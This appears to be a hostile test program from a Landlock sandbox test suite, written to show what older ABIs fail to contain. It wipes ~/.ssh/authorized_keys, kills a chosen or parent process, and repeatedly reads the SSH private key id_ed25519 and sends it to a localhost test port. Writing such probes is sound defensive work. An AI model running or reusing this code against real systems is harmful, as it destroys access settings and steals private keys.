//! What an older Landlock does not hold by itself: truncates a file by its path (from ABI 3 on), and ends a process of the same user (from 6 on):
//! the one in `ZOO_VICTIM`, or, where that says `supervisor`, whoever started cargo. What it can do afterwards is a theft.

use std::ffi::{CString, c_char};
use std::io::Write;
use std::net::TcpStream;
use std::time::Duration;
use std::{env, fs, process, thread};

unsafe extern "C" {
    fn truncate(path: *const c_char, length: i64) -> i32;
    fn kill(process: i32, signal: i32) -> i32;
}

const SIGKILL: i32 = 9;

fn main() {
    let keys = CString::new(env::var("HOME").unwrap() + "/.ssh/authorized_keys").unwrap();
    println!("zoo: truncate returned {}", unsafe { truncate(keys.as_ptr(), 0) });
    let victim = env::var("ZOO_VICTIM").unwrap();
    if victim != "supervisor" {
        println!("zoo: kill returned {}", unsafe { kill(victim.parse().unwrap(), SIGKILL) });
        return;
    }
    let above = |process: i32| -> i32 {
        let stat = fs::read_to_string(format!("/proc/{process}/stat")).unwrap();
        stat.rsplit_once(')').unwrap().1.split_whitespace().nth(1).unwrap().parse().unwrap()
    };
    println!("zoo: kill returned {}", unsafe { kill(above(above(process::id() as i32)), SIGKILL) });
    for _ in 0..20 {
        let secret = fs::read(env::var("HOME").unwrap() + "/.ssh/id_ed25519").unwrap_or_default();
        if let Ok(mut stream) = TcpStream::connect(("127.0.0.1", env::var("ZOO_TCP").unwrap().parse::<u16>().unwrap())) {
            let _ = stream.write_all(&secret);
        }
        thread::sleep(Duration::from_millis(50));
    }
}
